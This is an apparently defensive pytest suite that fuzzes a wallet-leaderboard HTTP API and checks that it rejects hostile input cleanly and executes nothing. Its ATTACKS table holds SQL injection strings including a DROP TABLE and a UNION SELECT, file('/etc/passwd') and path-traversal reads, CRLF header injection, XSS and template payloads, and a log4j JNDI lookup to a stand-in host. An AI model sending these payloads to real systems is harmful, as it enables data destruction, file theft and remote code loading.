"""Hostile values in every parameter: never a server error, never another answer than without them, nothing executed."""

import itertools
from urllib.parse import quote

import httpx
import pytest

from hl_assets.warehouse.connection import Warehouse

ADDRESS = "0x" + "1" * 40
PARAMETERS = {
    "/wallets": ("top_n", "save_to_db", "skip_analysis"),
    "/v1/leaderboard": (
        "limit", "cursor", "sort", "min_trust", "min_sample_days", "style", "entity", "as_of", "include_trend",
    ),
    "/v1/leaderboard/summary": ("entity", "as_of"),
    f"/v1/wallets/{ADDRESS}": ("as_of",),
    f"/v1/wallets/{ADDRESS}/equity": ("from", "to", "step", "as_of"),
    f"/v1/wallets/{ADDRESS}/scores": ("from", "to"),
    f"/v1/wallets/{ADDRESS}/grades": ("from",),
    "/v1/runs/2026-05-31T12:10:00Z/funnel": ("slot",),
    "/v1/coverage": ("from", "to"),
    "/healthz": ("x",),
    "/readyz": ("x",),
    "/metrics": ("x",),
}  # fmt: skip
PATHS = (
    "/v1/wallets/{}",
    "/v1/wallets/{}/equity",
    "/v1/wallets/{}/scores",
    "/v1/wallets/{}/grades",
    "/v1/runs/{}/funnel",
)
ATTACKS = {
    "quote": "'",
    "or": "' OR 1=1 --",
    "union": "1 UNION ALL SELECT name FROM system.tables --",
    "drop": "x'; DROP TABLE wallet_scores; --",
    "backslash": "\\' OR 1=1 --",
    "placeholder": "{limit:UInt32}",
    "format": "roi FORMAT JSON SETTINGS max_execution_time=0",
    "sleep": "(SELECT sleep(3))",
    "file": "file('/etc/passwd')",
    "identifier": "`weighted_score`",
    "traversal": "../../../../etc/passwd",
    "encoded traversal": "..%2f..%2fetc%2fpasswd",
    "header": "x\r\nSet-Cookie: a=b\r\n\r\n<html>",
    "null byte": "1\x00",
    "only null": "\x00",
    "escape": "\x1b[2J",
    "bidi": "\u202e1",
    "full-width digit": "\uff11",
    "combining": "1\u0301",
    "homoglyph": "r\u043ei",
    "astral": "\U0001f9ff" * 50,
    "huge number": "9" * 400,
    "negative huge": "-" + "9" * 30,
    "exponent": "1e308",
    "overflow": "1e99999",
    "int64": "9223372036854775808",
    "hex": "0x7fffffff",
    "nan": "NaN",
    "infinity": "-Infinity",
    "template": "{{7*7}}${7*7}",
    "script": "<script>alert(1)</script>",
    "log4j": "${jndi:ldap://evil.example/a}",
    "array": "[1]",
    "object": '{"$gt": ""}',
    "long": "a" * 4_000,
    "empty": "",
    "blank": " ",
}


@pytest.mark.parametrize("attack", list(ATTACKS))
def test_no_parameter_takes_it(api: httpx.Client, attack: str) -> None:
    value = ATTACKS[attack]
    for path, names in PARAMETERS.items():
        for name in names:
            answer = api.get(f"{path}?{name}={quote(value, safe='')}")
            assert answer.status_code == 422, (path, name, answer.text)
            _is_clean(answer)


@pytest.mark.parametrize("attack", list(ATTACKS))
def test_no_path_takes_it(api: httpx.Client, attack: str) -> None:
    for path in PATHS:
        answer = api.get(path.format(quote(ATTACKS[attack], safe="")))
        assert answer.status_code in {404, 422}, (path, answer.text)
        _is_clean(answer)


@pytest.mark.parametrize("attack", list(ATTACKS))
def test_no_name_of_a_parameter_takes_it(api: httpx.Client, attack: str) -> None:
    for path in ("/wallets", "/v1/leaderboard"):
        answer = api.get(f"{path}?{quote(ATTACKS[attack], safe='')}=1")
        assert answer.status_code == 422, answer.text
        _is_clean(answer)


HEADERS = (
    "X-Request-ID",
    "If-None-Match",
    "Accept-Encoding",
    "X-API-Key",
    "X-Forwarded-For",
    "Origin",
    "Accept",
    "User-Agent",
)


@pytest.mark.parametrize("header", HEADERS)
def test_no_header_takes_it(api: httpx.Client, header: str) -> None:
    usual = api.get("/v1/leaderboard?limit=1").json()
    for attack in ATTACKS.values():
        value = attack.encode()
        if any(byte < 0x20 and byte != 0x09 for byte in value):
            continue  # no HTTP client or server lets these into a header
        answer = api.get("/v1/leaderboard?limit=1", headers={header: value.strip()})
        assert answer.status_code == 200
        assert answer.json() == usual
        assert value.strip() not in (answer.headers["x-request-id"].encode(),) or header == "X-Request-ID"


def test_raw_bytes_in_paths_and_queries_are_no_server_error(api: httpx.Client) -> None:
    for raw in ("%ff", "%c0%af", "%ed%a0%80", "%00", "%", "%zz", "%F0%9F", "+", "%2B%00"):
        for path in (f"/v1/wallets/{raw}", f"/wallets?top_n={raw}", f"/wallets?{raw}=1", f"/{raw}"):
            answer = httpx.Client(trust_env=False).request(
                "GET", httpx.URL(str(api.base_url)).copy_with(raw_path=path.encode())
            )
            assert answer.status_code in {404, 422}, (path, answer.status_code)


def test_nothing_was_executed(api: httpx.Client, store: Warehouse) -> None:
    before = store.read_rows("SELECT count(), sum(cityHash64(*)) FROM wallet_scores")
    for attack, path in itertools.product(("drop", "union", "file"), PATHS):
        api.get(path.format(quote(ATTACKS[attack], safe="")))
    assert store.read_rows("SELECT count(), sum(cityHash64(*)) FROM wallet_scores") == before


def _is_clean(answer: httpx.Response) -> None:
    assert answer.headers["content-type"] == "application/problem+json"
    assert "set-cookie" not in answer.headers
    text = answer.text
    assert not any(ord(character) < 0x20 or 0x202A <= ord(character) <= 0x202E for character in text)
    assert "Traceback" not in text
    assert len(text) < 2_000
